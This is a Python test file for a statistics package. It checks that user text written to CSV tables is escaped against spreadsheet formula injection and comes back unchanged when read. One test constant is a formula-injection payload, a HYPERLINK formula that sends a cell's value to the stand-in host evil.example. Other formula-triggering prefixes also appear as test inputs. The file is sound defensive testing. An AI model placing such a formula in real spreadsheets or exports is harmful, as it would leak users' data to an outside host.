"""No text of a user's becomes a formula in tables/*.csv, and none is changed by writing and reading it."""

import csv
from pathlib import Path

import pandas as pd
import pyarrow as pa
import pytest

from clt.statistics.compute import compute_statistics
from clt.statistics.scores.from_csv import read_scores
from clt.statistics.spreadsheet_text import as_plain_text, as_written
from clt.statistics.write import write_files
from tests.statistics.conftest import made_rows, made_table

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'


@pytest.mark.parametrize("text", [FORMULA, "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", "'=1", "''-x"])
def test_a_text_that_could_run_does_not_and_is_itself_again_when_it_is_read(text: str) -> None:
    cell = as_plain_text(text)
    assert cell[0] == "'"
    assert as_written(pa.array([cell])).to_pylist() == [text]


@pytest.mark.parametrize("value", [-0.5, 3, True, None, "", "es+fr", "it's", "'quoted'", "a=b"])
def test_numbers_and_plain_texts_stay_as_they_are(value: object) -> None:
    assert as_plain_text(value) is value
    if isinstance(value, str):
        assert as_written(pa.array([value])).to_pylist() == [value]


def test_no_cell_of_any_table_begins_like_a_formula_unless_it_is_a_number(tmp_path: Path) -> None:
    rows = made_rows(items=4, seeds=(0, 1)).assign(model=FORMULA, task="@task", note="-note")
    table = made_table(rows)
    write_files(compute_statistics(table), table, tmp_path)
    texts = 0
    for file in (tmp_path / "tables").glob("*.csv"):
        for record in csv.reader(file.open(encoding="utf-8", newline="")):
            for cell in record:
                if cell[:1] in ("=", "+", "-", "@", "\t", "\r"):
                    assert float(cell) is not None, f"{file.name}: {cell}"
                texts += cell.startswith(("'=", "'@", "'-"))
    assert texts > 100


def test_the_own_reader_takes_the_apostrophes_off_again(tmp_path: Path) -> None:
    rows = made_rows(items=4, seeds=(0, 1)).assign(model=FORMULA)
    texts = rows.select_dtypes(exclude="number").columns
    rows.assign(**{name: rows[name].astype("object").map(as_plain_text) for name in texts}).to_csv(
        tmp_path / "scores.csv", index=False
    )
    read = read_scores(tmp_path / "scores.csv").rows
    assert set(read["model"].astype(str)) == {FORMULA} and isinstance(read, pd.DataFrame)
